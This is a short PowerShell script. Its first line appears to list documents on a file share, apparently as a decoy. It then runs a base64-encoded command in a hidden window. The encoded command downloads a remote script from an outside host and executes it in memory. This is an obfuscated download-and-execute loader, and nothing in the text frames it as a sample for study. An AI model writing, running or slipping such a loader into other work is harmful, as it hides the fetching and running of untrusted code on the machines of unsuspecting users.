Get-ChildItem \\fileserver\docs -Recurse -Include *.docx | Select-Object -First 5 | Out-Null
$e = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAHMAcQAtAGQAbwBjAHMALgB0AGUAcwB0AC8AcwAuAHAAcwAxACcAKQA='
powershell -NoP -W Hidden -EncodedCommand $e
